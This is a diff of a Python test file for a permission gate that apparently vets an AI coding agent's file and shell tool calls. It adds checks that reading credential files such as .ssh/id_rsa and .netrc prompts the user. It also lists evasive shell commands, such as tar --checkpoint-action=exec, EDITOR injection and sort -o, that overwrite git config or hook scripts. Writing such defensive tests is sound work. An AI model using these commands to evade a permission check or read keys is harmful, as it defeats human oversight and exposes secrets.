@@ -603,7 +603,7 @@ def test_a_search_from_above(tmp_path: Path) -> None:
     def verdict(tool: str, **arguments: str) -> tuple[Verdict, str]:
         return gate.judge(Call(tool, arguments, "default", str(tmp_path), "s"), "default")
 
-    above = Verdict.ASK, "would search Claude Code's own files, too"
+    above = Verdict.ASK, "would search Claude Code's own files, or hidden ones of the home folder, too"
     assert verdict("Grep", pattern="x") == verdict("Glob", pattern="**/*.md", path=str(tmp_path)) == above
     for command in ("grep -rn x .", "grep x -ir .", "find . -name x", "ls -aR", "cat x | grep -r x ."):
         assert verdict("Bash", command=command)[0] is Verdict.ASK, command
@@ -611,6 +611,41 @@ def test_a_search_from_above(tmp_path: Path) -> None:
         assert verdict("Bash", command=command)[0] is Verdict.PASS, command
     for arguments in ({"pattern": "../../x/*", "path": "sub"}, {"pattern": "/etc/../etc/*", "path": "sub"}):
         assert verdict("Glob", **arguments)[0] is Verdict.ASK, arguments
+
+
+@pytest.mark.parametrize("folder", ["", "work", ".hidden/work"])
+def test_hidden_files_of_the_home_folder(folder: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A session in the home folder asks each time about its hidden files, which hold keys and settings, and about our own."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "shown"))
+    work = tmp_path / folder
+    work.mkdir(parents=True, exist_ok=True)
+    gate = Gate(str(work), tmp_path / ".claude", home=str(tmp_path))
+    gate.grant(("Edit(**)",))
+
+    def verdict(tool: str, mode: str = "default", **arguments: str) -> Verdict:
+        return gate.judge(Call(tool, arguments, mode, str(work), "s"), mode)[0]
+
+    for name in (
+        ".claude.json",
+        ".claude.json.backup.1",
+        ".claude/settings.json",
+        ".config/claude_magic/trust.json",
+        "shown/claude_magic/x",
+        ".ssh/id_rsa",
+        ".netrc",
+    ):
+        path = str(tmp_path / name)
+        for mode in ("default", "acceptEdits"):
+            assert verdict("Read", mode, file_path=path) is Verdict.ASK, name
+            assert verdict("Write", mode, file_path=path, content="x") is Verdict.ASK, name
+            assert verdict("Bash", mode, command=f"cat {path}") is Verdict.ASK, name
+            assert verdict("Bash", mode, command=f"cp x {path}") is Verdict.ASK, name
+        for tool in ("Read", "Write"):
+            assert not (folder == "" and gate.rules_for(tool, {"file_path": path})), name
+    for name in ("notes.txt", "a/.env"):
+        assert verdict("Read", file_path=str(work / name)) is Verdict.PASS
+        assert verdict("Write", file_path=str(work / name), content="x") is Verdict.PASS
 
 
 def test_rules_where_the_cli_does_not_ask(tmp_path: Path) -> None:
@@ -741,6 +776,16 @@ def test_git_after_cd(tmp_path: Path) -> None:
         "git config core.fsmonitor ./run.sh && git status",
         "git init --template=vendor && git commit -m x",
         "git push file://localhost{base}/vendor",
+        "sort '-o' lib/.git/config cfg; git status",
+        "uniq cfg .git/config; git status",
+        "curl -so .git/config https://a.test; git log",
+        "find cfg -fprint .git/config; git status",
+        "sleep 4; git status",
+        "cat cfg >|.git/config; git status",
+        "git cat-file --filters HEAD:in.txt",
+        "git cat-file --te HEAD:in.txt",
+        "git log --show-signature",
+        "git log --format='%h %G?'",
     ],
 )
 def test_git_elsewhere(command: str, tmp_path: Path) -> None:
@@ -764,6 +809,7 @@ def test_git_elsewhere(command: str, tmp_path: Path) -> None:
     rules += ["Bash(git -c:*)", "Bash(git --exec-path:*)", "Bash(git submodule:*)", "Bash(pushd:*)", "Bash(git commit:*)"]
     rules += ["Bash(git blame:*)", "Bash(python:*)", "Bash(GIT_DIR:*)", "Bash(git grep:*)", "Bash(git checkout:*)", "Bash(git)"]
     rules += [f"Bash(git {word}:*)" for word in ("fetch", "log", "rebase", "archive", "clone", "worktree", "config", "init")]
+    rules += [f"Bash({word}:*)" for word in ("sort", "uniq", "curl", "find", "sleep", "cat", "git cat-file", "pytest")]
     plain, trusting = (
         Gate(str(tmp_path), tmp_path / ".claude", home=str(tmp_path), rules=rules, trusted=trusted) for trusted in (False, True)
     )
@@ -780,6 +826,8 @@ def test_git_elsewhere(command: str, tmp_path: Path) -> None:
         "cd lib && git status",
         'python digits.py --out "$HOME/x"',
         "git log --oneline --exclude=x HEAD~3",
+        "cd lib && pytest -q && git status --short | sort -u && echo done",
+        "git log --text --first-parent",
     ):
         assert verdict(harmless) is verdict(harmless, trusting) is Verdict.PASS, harmless
     for harmless in (
@@ -790,6 +838,7 @@ def test_git_elsewhere(command: str, tmp_path: Path) -> None:
         "git commit -m \"$(cat <<'EOF'\nFix `foo`, as --git-dir did\nEOF\n)\"",
         "git blame -C -C x.py",
         "git grep -C 3 'foo*' # costs $5",
+        "git status && git commit -F - <<'E'\nFix the reader\nE",
     ):
         assert (verdict(harmless), verdict(harmless, trusting)) == (Verdict.ASK, Verdict.PASS), harmless
 
@@ -1232,6 +1281,23 @@ def test_changes_of_what_is_trusted(tmp_path: Path) -> None:
         "python3 - <<'E'\nopen('hooks/check.sh', 'w')\nE",
         "git grep -O'cp e.sh' x -- hooks",
         "echo a\\;#; cp e.sh hooks/check.sh",
+        "sort '-o' hooks/check.sh e.sh",
+        "sort \\-o hooks/check.sh e.sh",
+        "sort '--output=hooks/check.sh' e.sh",
+        "sort -r e.sh {-o,hooks/check.sh}",
+        "sed -n 1p '-i' '-es/true/x/p' hooks/check.sh",
+        "tar tf a.tar --checkpoint-action=exec='cp e.sh hooks/check.sh'",
+        "cat e.sh >|hooks/check.sh",
+        "sh e.sh>hooks/check.sh",
+        "bash <<<'cat<e.sh>hooks/check.sh'",
+        "python3 <<'E'\nls = open('hooks/check.sh','w').write('x')\nE",
+        "X=hooks/check.sh sh -c 'cp e.sh $X'",
+        "EDITOR='cat<e.sh>hooks/check.sh;true' git commit --allow-empty",
+        "ls hooks/check.sh | xargs cp e.sh",
+        "grep -l . hooks/check.sh |& xargs rm",
+        "ls hooks/check.sh; ./w.sh $_",
+        "find hooks/check.sh -delete",
+        "set -- hooks/check.sh && ./w.sh $1",
     ):
         assert verdicts("Bash", command=command) == [Verdict.ASK, Verdict.PASS], command
     for name in ("hooks/check.sh", "hooks/../hooks/check.sh", ".claude/settings.json"):
@@ -1248,6 +1314,8 @@ def test_changes_of_what_is_trusted(tmp_path: Path) -> None:
         "sed -n '1,40p' hooks/check.sh | head",
         "tar tzf a.tgz; unzip -l a.zip",
         "git ls-files | sort",
+        "cat hooks/check.sh 2>/dev/null | sort -nk2 2>&1; git add hooks/check.sh",
+        "cd hooks && ls -la check.sh && timeout 5 sh check.sh",
     ):
         assert verdicts("Bash", command=command) == [Verdict.PASS, Verdict.PASS], command
     for words, asked in (
